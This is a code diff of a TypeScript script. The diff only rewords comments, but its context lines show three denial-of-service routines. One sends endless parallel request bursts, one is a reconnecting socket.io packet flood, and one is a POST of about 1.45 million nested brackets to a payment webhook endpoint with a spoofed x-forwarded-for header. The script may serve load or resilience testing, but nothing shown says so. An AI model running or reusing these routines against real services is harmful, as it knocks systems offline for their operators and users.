@@ -14,7 +14,7 @@ const headers = {
   "x-forwarded-for": address,
 };
 
-/** So many calls at once, again and again. */
+/** Makes so many calls in parallel, over and over. */
 async function storm(atOnce: number, call: (index: number) => Promise<Response>): Promise<void> {
   for (let turn = 0; ; turn++) {
     const calls = Array.from({ length: atOnce }, (_, index) => call(turn * atOnce + index).then((response) => response.arrayBuffer()));
@@ -22,7 +22,7 @@ async function storm(atOnce: number, call: (index: number) => Promise<Response>)
   }
 }
 
-/** Packets of ten bytes as fast as the line takes them; cut off, it comes again. */
+/** Sends packets of ten bytes as fast as the connection takes them; reconnects when cut off. */
 async function flood(): Promise<void> {
   for (;;) {
     const socket = io(appUrl, {
@@ -43,7 +43,7 @@ async function flood(): Promise<void> {
   }
 }
 
-/** Bodies of nested brackets, each on a connection of its own: a refusal may come before all of it is sent. */
+/** Sends bodies of nested brackets, each on a new connection, since a refusal may come before all of it is sent. */
 async function nest(): Promise<void> {
   const body = "[".repeat(1_450_000) + "]".repeat(1_450_000);
   const head = `POST /api/v1/webhooks/fawry HTTP/1.1\r\nhost: ${appHost}\r\ncontent-type: application/json\r\nx-forwarded-for: ${address}\r\nconnection: close\r\ncontent-length: ${body.length}\r\n\r\n`;
